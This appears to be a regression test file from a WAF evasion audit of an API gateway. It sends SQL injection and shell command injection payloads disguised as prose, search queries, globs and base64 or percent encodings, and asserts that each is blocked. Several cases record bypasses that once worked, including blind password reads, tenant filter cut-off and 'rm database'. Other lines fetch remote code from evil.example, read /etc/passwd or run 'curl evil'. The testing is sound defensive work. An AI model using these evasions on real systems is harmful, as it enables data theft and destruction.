// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Audit 14 (round 7 of the WAF evasion audit): the fixes of audit 13 (commit 06f3143: standalone placeholders,
 * shellInertFormula for `$(`-opened LaTeX, SQL_EXPRESSION_WORD in startsWithTwoWords, DELAY_CALL with an
 * expression, two-segment PATH_GLOB and scope-named one-segment globs, one-line `*_sql` values) and the older
 * relaxations of src/waf/profile/view.ts nobody had audited since: the prose quote judgement (proseQuotesInert,
 * quotesInert, QUOTATION; family q), the search-box grammar (searchExpressionOnly; family q), stacked queries
 * (noStackedQuery; family s), prose parentheses (inertParentheses; family f), arithmeticOnly, `union … select`
 * across sentences (mayUnionSelect; family u), PowerShell (powershellInert; family p), commands at the start of a
 * line (commandOnlyAtStart; family c) and the nested base64/percent/JSON decoding of ./expand.ts. Against the
 * `waf` policy (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a recording
 * upstream, over HTTP/1.1 and HTTP/2. Every technique here is one the gateway stops: the request is refused with
 * 403 and the upstream never sees it. The techniques that got through are in the audit's report, not here. The
 * `/crs/*` (PL1) and `/crs2/*` (PL2) routes run the plain CRS profile: the control there shows CRS refuses the
 * payloads this audit built its evasions from.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = '/work/shared/crs/v4.28.0';
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;
const B64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
const FORM_CT: [string, string][] = [['Content-Type', 'application/x-www-form-urlencoded']];
/** A JSON document posted to `path` (the API-profile route by default). */
const doc = (value: unknown, path = '/x'): Buffer => req('POST', path, JSON_CT, J(value));
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => doc({ [field]: value });
const get = (target: string): Buffer => req('GET', target, []);
/** A form body `field=value` posted to the API-profile route. */
const form = (field: string, value: string): Buffer => req('POST', '/x', FORM_CT, `${field}=${E(value)}`);

interface Case {
  readonly name: string;
  readonly build: () => Buffer;
}

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // Family q, prose quotes in a quoted-string context: a quote glued between letters (`a'or'b`) is read as an
  // apostrophe; these shapes still meet another judgement or rule.
  {
    name: "prose quotes: a'or'b'like'b (quoted operand after like)",
    build: () => json('name', "Please find my order a'or'b'like'b"),
  },
  { name: "prose quotes: x'or'1'='1", build: () => json('name', "Please find the user x'or'1'='1") },
  {
    name: "prose quotes: a'or username like'admin",
    build: () => json('name', "Please find the user a'or username like'admin"),
  },
  {
    name: "prose quotes: a'or password>'a",
    build: () => json('name', "Please find the user a'or password>'a"),
  },
  {
    name: "prose quotes: a'union all select … from … where'a",
    build: () => json('name', "Please find the order a'union all select password from users where'a"),
  },
  {
    name: "prose quotes: a'or sleep(5 is not null)or'a",
    build: () => json('note', "Please run this later a'or sleep(5 is not null)or'a"),
  },
  { name: "prose quotes: a'||'b'like'b", build: () => json('name', "Please find the invoice a'||'b'like'b") },
  {
    name: "prose quotes: a'or password rlike'^a",
    build: () => json('name', "Please find the user a'or password rlike'^a"),
  },
  {
    name: "prose quotes: a'or role in('admin')or'a",
    build: () => json('name', "Please find the user a'or role in('admin')or'a"),
  },
  { name: "prose quotes: a'or true#", build: () => json('name', "Please find my order a'or true#") },
  {
    name: 'prose quotes: double quotes inside the apostrophes',
    build: () => json('name', `Please find my order a'or"b"like"b"or'a`),
  },
  {
    name: "prose quotes: a'or (select password from users limit 1) like's%",
    build: () => json('filter', "Please find the user a'or (select password from users limit 1) like's%"),
  },
  {
    name: `prose quotes: a'or username="admin" or'a`,
    build: () => json('name', `Please find the user a'or username="admin" or'a`),
  },
  {
    name: "prose quotes: a'or(table secrets limit 1)::text like'(1,s%",
    build: () => json('name', "Please find the user a'or(table secrets limit 1)::text like'(1,s%"),
  },
  {
    name: "prose quotes: a'or substr(password,1,1)like's",
    build: () => json('name', "Please find the user a'or substr(password,1,1)like's"),
  },
  {
    name: "prose quotes: a'or password like'\\s% (escape)",
    build: () => json('name', "Please find the user a'or password like'\\s%"),
  },
  {
    name: "prose quotes, query string: a'or'b'like'b",
    build: () => get(`/api/x?name=${E("a'or'b'like'b")}`),
  },
  {
    name: "prose quotes, query string: hello a'or'b'like'b",
    build: () => get(`/api/x?name=${E("hello a'or'b'like'b")}`),
  },
  {
    name: "prose quotes: a'; drop table users; -- (family s)",
    build: () => json('note', "Please check the report a'; drop table users; --"),
  },
  // Stacked statements after a prose-quote break-out (families q and s).
  {
    name: "stacked: a';truncate users;select'a",
    build: () => json('name', "Please find the user a';truncate users;select'a"),
  },
  {
    name: "stacked: a';alter user postgres password'pwned",
    build: () => json('name', "Please find the user a';alter user postgres password'pwned"),
  },
  {
    name: "stacked: a';drop owned by current_user;select'a",
    build: () => json('name', "Please find the user a';drop owned by current_user;select'a"),
  },
  {
    name: "stacked: a';delete from users;select'a",
    build: () => json('name', "Please find the user a';delete from users;select'a"),
  },
  {
    name: "stacked: a';reset all;select'a",
    build: () => json('name', "Please find the user a';reset all;select'a"),
  },
  // Family q, the search-box grammar (searchExpressionOnly) in a double-quoted string context.
  { name: 'search: " OR ""=" x', build: () => json('q', '" OR ""=" x') },
  { name: 'search: " || " x', build: () => json('q', '" || " x') },
  {
    name: 'search: " UNION SELECT password FROM users WHERE " x',
    build: () => json('q', '" UNION SELECT password FROM users WHERE " x'),
  },
  {
    name: 'search: " UNION ALL SELECT name, password FROM users -- " x',
    build: () => json('q', '" UNION ALL SELECT name, password FROM users -- " x'),
  },
  { name: 'search: " OR SLEEP(5) OR " x', build: () => json('q', '" OR SLEEP(5) OR " x') },
  { name: 'search: " OR name LIKE " %', build: () => json('q', '" OR name LIKE " %') },
  { name: 'search: "; DROP TABLE users; " x', build: () => json('q', '"; DROP TABLE users; " x') },
  {
    name: 'search: " AND 0 UNION SELECT database() " x',
    build: () => json('q', '" AND 0 UNION SELECT database() " x'),
  },
  {
    name: 'search: " AND 0 UNION SELECT load_file(0x…) " x',
    build: () => json('q', '" AND 0 UNION SELECT load_file(0x2f6574632f706173737764) " x'),
  },
  {
    name: 'search: " AND 0 UNION SELECT password FROM users " x',
    build: () => json('q', '" AND 0 UNION SELECT password FROM users " x'),
  },
  {
    name: 'search: " AND 0 UNION SELECT group_concat(password) FROM users " x',
    build: () => json('q', '" AND 0 UNION SELECT group_concat(password) FROM users " x'),
  },
  {
    name: 'search: UNION SELECT … FROM with a line break',
    build: () => json('q', '" AND 0 UNION SELECT password FROM\nusers " x'),
  },
  { name: 'search, query string: " OR ""=" x', build: () => get(`/api/x?q=${E('" OR ""=" x')}`) },
  // Audit 13's fixes: one-segment globs in a query string, delay calls with one token, `$(`-opened LaTeX.
  { name: 'glob: ?branch=id/* (one segment, query string)', build: () => get('/api/x?branch=id%2F*') },
  { name: 'glob: ?path_pattern=id/* (query string)', build: () => get('/api/x?path_pattern=id%2F*') },
  { name: 'delay: sleep (5 ) in prose', build: () => json('note', 'Take a nap today please sleep (5 )') },
  { name: 'delay: sleep ( 5 ) in prose', build: () => json('note', 'Take a nap today please sleep ( 5 )') },
  {
    name: 'LaTeX: $(\\alpha<LF> id)$',
    build: () => json('note', 'The bound $(\\alpha\n id)$ holds for all of the inputs here'),
  },
  {
    name: 'LaTeX: $(\\alpha)\\ id$',
    build: () => json('note', 'The bound $(\\alpha)\\ id$ holds for all inputs here'),
  },
  {
    name: 'LaTeX: $(n)<LF> id$',
    build: () => json('note', 'The bound $(n)\n id$ holds for all inputs here'),
  },
  { name: 'placeholder: ${id}x${IFS}', build: () => json('memo', 'Auto-categorized rule ${id}x${IFS}') },
  {
    name: 'placeholder: line break then ${SHELL} -c id',
    build: () => json('host', '127.0.0.1\n${SHELL} -c id'),
  },
  { name: 'placeholder: $ {id} then ${id};id', build: () => json('memo', 'run $ {id} please then ${id};id') },
  {
    name: "*_sql: SELECT load_file('/etc/passwd')",
    build: () => json('report_sql', "SELECT load_file('/etc/passwd')"),
  },
  // Families c and p: commands after a separator of prose.
  { name: 'prose command: ; bash', build: () => json('host', 'Hello team the invoice is late; bash') },
  {
    name: 'prose command: ; curl evil',
    build: () => json('host', 'Hello team the invoice is late; curl evil'),
  },
  {
    name: 'prose command: ; telnet evil 23',
    build: () => json('host', 'Hello team the invoice is late; telnet evil 23'),
  },
  {
    name: 'prose command: a line break then id',
    build: () => json('note', 'Hello team please see the file now\nid'),
  },
  {
    name: 'prose command: ; cat /etc/passwd',
    build: () => json('note', 'Hello team, please ping 127.0.0.1 and then; cat /etc/passwd'),
  },
  {
    name: 'powershell: & powershell -enc …',
    build: () => json('host', 'Hello team the invoice is late & powershell -enc SQBFAFgA'),
  },
  {
    name: 'powershell: ; powershell -enc …',
    build: () => json('host', 'Hello team the invoice is late; powershell -enc SQBFAFgA'),
  },
  {
    name: 'powershell: Invoke-Expression (New-Object Net.WebClient).DownloadString',
    build: () =>
      json(
        'note',
        "Please note the payment Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
      ),
  },
  // arithmeticOnly and mayUnionSelect.
  { name: 'arithmetic: 1+(2)*3 or 1', build: () => json('v', '1+(2)*3 or 1') },
  {
    name: 'union across sentences: … select password from users',
    build: () => json('note', 'Join the union now please     and also select password from users'),
  },
  // Nested decoding (expand.ts): base64 of JSON, base64 of percent-encoding, double percent-encoding.
  {
    name: 'base64 of a JSON document with ;cat /etc/passwd',
    build: () => json('data', B64(J({ note: '127.0.0.1;cat /etc/passwd' }))),
  },
  {
    name: "base64 of a percent-encoded ' or 1=1 -- ",
    build: () => json('data', B64(E("' or 1=1 -- "))),
  },
  { name: "double percent-encoding: ' or 1=1 -- ", build: () => get(`/api/x?x=${E(E("' or 1=1 -- "))}`) },
  { name: "form body: a'or'b'like'b", build: () => form('name', "Please find my order a'or'b'like'b") },
];

/** One HTTP/2 request; resolves with the status (or `stream-error`/`session-error`). */
function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };

/** The same evasions over HTTP/2 (the value view is the same; the framing is not). */
/**
 * The bypasses audit 14 found, fixed the same session: each is refused now.
 */
/** Bypasses the API profile lets through (each should be refused with 403, the upstream never seeing it). */
const BYPASS_CASES: readonly Case[] = [
  // B1 (SQLi, string context; family q, proseQuotesInert/quotesInert): a quote glued between two letters
  // (`a'or`, `like's`) is removed as an apostrophe by quotesInert, so the value has "no quote"; a sentence starting
  // with two plain words switches to SQL_NON_QUOTE_SYNTAX_AFTER_WORDS. libinjection (942100) is waived.
  // `WHERE name = '<v>'` becomes `name = '…user a' or password like 's%'`: boolean-blind read of any column
  // (MariaDB 10.11, SQLite 3.40, PostgreSQL all return alice's row only).
  {
    name: "B1 prose quotes: a'or password like's% (boolean blind, MariaDB/SQLite/PostgreSQL)",
    build: () => json('name', "Please find the user a'or password like's%"),
  },
  {
    name: "B1b prose quotes: a'or true or't (tautology, MariaDB/SQLite/PostgreSQL)",
    build: () => json('name', "Please find my order today a'or true or't"),
  },
  {
    name: "B1c prose quotes: a'or 1 or'a (tautology, MariaDB/SQLite)",
    build: () => json('name', "Please find the user a'or 1 or'a"),
  },
  {
    name: "B1d prose quotes: a'or not'a (tautology, MariaDB/SQLite)",
    build: () => json('name', "Please find my order a'or not'a"),
  },
  {
    name: "B1e prose quotes: a'or'a'is'a (tautology, SQLite)",
    build: () => json('name', "Please find my order a'or'a'is'a"),
  },
  {
    name: "B1f prose quotes: a'or password between'a'and't (blind range)",
    build: () => json('name', "Please find the user a'or password between'a'and't"),
  },
  {
    name: "B1g prose quotes: a'or is_admin or'a (MariaDB/SQLite)",
    build: () => json('name', "Please find the user a'or is_admin or'a"),
  },
  {
    name: "B1h prose quotes: a'or password similar to's% (PostgreSQL)",
    build: () => json('name', "Please find the user a'or password similar to's%"),
  },
  {
    name: "B1i prose quotes: a'or password not like'zz",
    build: () => json('name', "Please find my order a'or password not like'zz"),
  },
  {
    name: "B1j prose quotes: a'or'b'regexp'b",
    build: () => json('name', "Please find my order a'or'b'regexp'b"),
  },
  {
    name: "B1k prose quotes: a'or password like binary's%",
    build: () => json('name', "Please find the user a'or password like binary's%"),
  },
  {
    name: "B1l query string: a'or password like's% (two words suffice)",
    build: () => get(`/api/x?name=${E("find user a'or password like's%")}`),
  },
  {
    name: "B1m form body: a'or password like's%",
    build: () => form('name', "Please find the user a'or password like's%"),
  },
  {
    name: "B1n query string: a'or true or't",
    build: () => get(`/api/x?q=${E("order today a'or true or't")}`),
  },
  // B2 (SQLi, double-quoted string context — MySQL/MariaDB default sql_mode, SQLite's string fallback; family q,
  // searchExpressionOnly): a phrase may hold anything but a quote or backslash, SEARCH_FORBIDDEN is only checked
  // outside phrases. `WHERE name = "<v>"` becomes `name = "" AND 0 UNION SELECT version() " x"` (the trailing
  // phrase is a column alias): UNION-based read of server functions/variables, tautologies.
  {
    name: 'B2 search: " AND 0 UNION SELECT version() " x (MariaDB returns the version, SQLite sqlite_version())',
    build: () => json('q', '" AND 0 UNION SELECT version() " x'),
  },
  {
    name: 'B2b search: " AND 0 UNION SELECT current_user " x',
    build: () => json('q', '" AND 0 UNION SELECT current_user " x'),
  },
  {
    name: 'B2c search: " AND 0 UNION SELECT @@version " x',
    build: () => json('q', '" AND 0 UNION SELECT @@version " x'),
  },
  {
    name: 'B2d search: " AND 0 UNION SELECT 1, 2 " x (column count)',
    build: () => json('q', '" AND 0 UNION SELECT 1, 2 " x'),
  },
  { name: 'B2e search: " OR NOT " x (tautology, MariaDB/SQLite)', build: () => json('q', '" OR NOT " x') },
  { name: 'B2f search: " OR TRUE OR " x (tautology)', build: () => json('q', '" OR TRUE OR " x') },
  { name: 'B2g search: " OR NOT " is:open (qualifier)', build: () => json('q', '" OR NOT " is:open') },
  { name: 'B2h search: " OR " x " OR NOT " y', build: () => json('q', '" OR " x " OR NOT " y') },
  { name: 'B2i search, query string: " OR NOT " x', build: () => get(`/api/x?q=${E('" OR NOT " x')}`) },
  // B3 (SQLi, numeric context; family g, PATH_GLOB's two-segment fix of audit 13): the second segment may be a
  // number, so `id/1/*` is `id/1` and an unterminated comment. `WHERE id = id/1/* AND tenant = 1` returns every
  // tenant's rows in MariaDB 10.11 and SQLite 3.40 (PostgreSQL rejects the unterminated comment).
  { name: 'B3 glob: id/1/* (JSON, cuts off the tenant filter)', build: () => json('id', 'id/1/*') },
  { name: 'B3b glob: ?id=id/1/* (query string)', build: () => get('/api/docs?id=id%2F1%2F*') },
  { name: 'B3c glob: ?sort=id/1/* (ORDER BY, cuts off LIMIT)', build: () => get('/api/docs?sort=id/1/*') },
  { name: 'B3d glob: id.x/1/*', build: () => json('id', 'id.x/1/*') },
  // B4 (OS command injection; family c, commandOnlyAtStart): after a prose `;` the next word is a command with
  // plain-word arguments; only probes, launchers and network tools are refused. `sh -c "notify … <v>"` runs it
  // (dash and bash: `rm database` removed the file; `kill <pid>` killed a process).
  {
    name: 'B4 prose command: ; rm database',
    build: () => json('host', 'Hello team the invoice is late; rm database'),
  },
  {
    name: 'B4b prose command: ; killall node',
    build: () => json('host', 'Hello team the invoice is late; killall node'),
  },
  {
    name: 'B4c prose command: ; kill 4242',
    build: () => json('host', 'Hello team the invoice is late; kill 4242'),
  },
  {
    name: 'B4d prose command: ; reboot',
    build: () => json('host', 'Hello team the invoice is late; reboot'),
  },
  {
    name: 'B4e prose command: ; shred database',
    build: () => json('host', 'Hello team the invoice is late; shred database'),
  },
  {
    name: 'B4f prose command: ; mv database trash',
    build: () => json('host', 'Hello team the invoice is late; mv database trash'),
  },
  {
    name: 'B4h prose command: line break then killall node',
    build: () => json('host', 'Hello team the invoice is late\nkillall node'),
  },
  {
    name: 'B4i prose command, query string: ; rm database',
    build: () => get(`/api/x?host=${E('Hello team the invoice is late; rm database')}`),
  },
  // B5 (SQLi, low; scopeGlob in expand.ts): a one-segment glob passes whenever the member is named like a scope,
  // and the member name is the client's to choose; `password/*` in a numeric context compares with a column and
  // comments out the rest (MariaDB/SQLite).
  { name: 'B5 scope glob: {"scope":"password/*"}', build: () => json('scope', 'password/*') },
  { name: 'B5b scope glob: {"include":"users/*"}', build: () => json('include', 'users/*') },
];

const BYPASS_H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  { name: 'B1 over h2', headers: H2_POST, body: J({ name: "Please find the user a'or password like's%" }) },
  { name: 'B2 over h2', headers: H2_POST, body: J({ q: '" AND 0 UNION SELECT version() " x' }) },
  { name: 'B3 over h2', headers: { ':method': 'GET', ':path': '/api/docs?id=id%2F1%2F*' } },
  { name: 'B4 over h2', headers: H2_POST, body: J({ host: 'Hello team the invoice is late; rm database' }) },
];

const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  {
    name: "prose quotes: a'or username like'admin",
    headers: H2_POST,
    body: J({ name: "Please find the user a'or username like'admin" }),
  },
  { name: 'search: " OR ""=" x', headers: H2_POST, body: J({ q: '" OR ""=" x' }) },
  {
    name: 'search: " AND 0 UNION SELECT password FROM users " x',
    headers: H2_POST,
    body: J({ q: '" AND 0 UNION SELECT password FROM users " x' }),
  },
  { name: 'glob: ?branch=id/*', headers: { ':method': 'GET', ':path': '/api/x?branch=id%2F*' } },
  {
    name: 'prose command: ; curl evil',
    headers: H2_POST,
    body: J({ host: 'Hello team the invoice is late; curl evil' }),
  },
];

// The payloads behind this audit's evasions, sent to the plain CRS profile (PL1 `/crs/*`, PL2 `/crs2/*`).
const CRS_REFUSES: readonly [path: string, value: unknown][] = [
  ['/crs/x', { name: "Please find the user a'or password like's%" }],
  ['/crs/x', { name: "Please find my order today a'or true or't" }],
  ['/crs/x', { q: '" OR NOT " x' }],
  ['/crs/x', { q: '" AND 0 UNION SELECT version() " x' }],
  ['/crs/x', { name: 'id/1/*' }],
  ['/crs/x', { host: 'Hello team the invoice is late; killall node' }],
];

describe(
  'audit14: WAF evasions of the audit-13 fixes and the older API-profile relaxations the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit14-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: crs2
    paths: ["/crs2/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs, paranoia_level: 2 }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json('name', "Please find O'Connor's order from last week"),
        json('q', '"drop-down" AND (export OR csv)'),
        json('note', 'Please quote the price (incl. VAT) for the renewal'),
        json('title', 'docker-compose fails on arm64 after the upgrade'),
        json('path_pattern', 'staging/*'),
        get(`/api/x?q=${E('is:open "order by" in:title')}`),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    test('control: plain CRS (PL1 /crs/*, PL2 /crs2/*) refuses the payloads behind these evasions', async () => {
      for (const [path, value] of CRS_REFUSES) {
        const r = await send(doc(value, path));
        assert.equal(r.statuses.at(-1), 403, `${path} ${J(value)}`);
        assert.equal(r.reached.length, 0, `${path} ${J(value)}`);
      }
    });

    for (const c of [...CASES, ...BYPASS_CASES]) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), 403, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      assert.equal(
        await h2(gw.ports.h2 as number, H2_POST, J({ name: "Please find O'Connor's order from last week" })),
        '200',
      );
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of [...H2_CASES, ...BYPASS_H2_CASES]) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
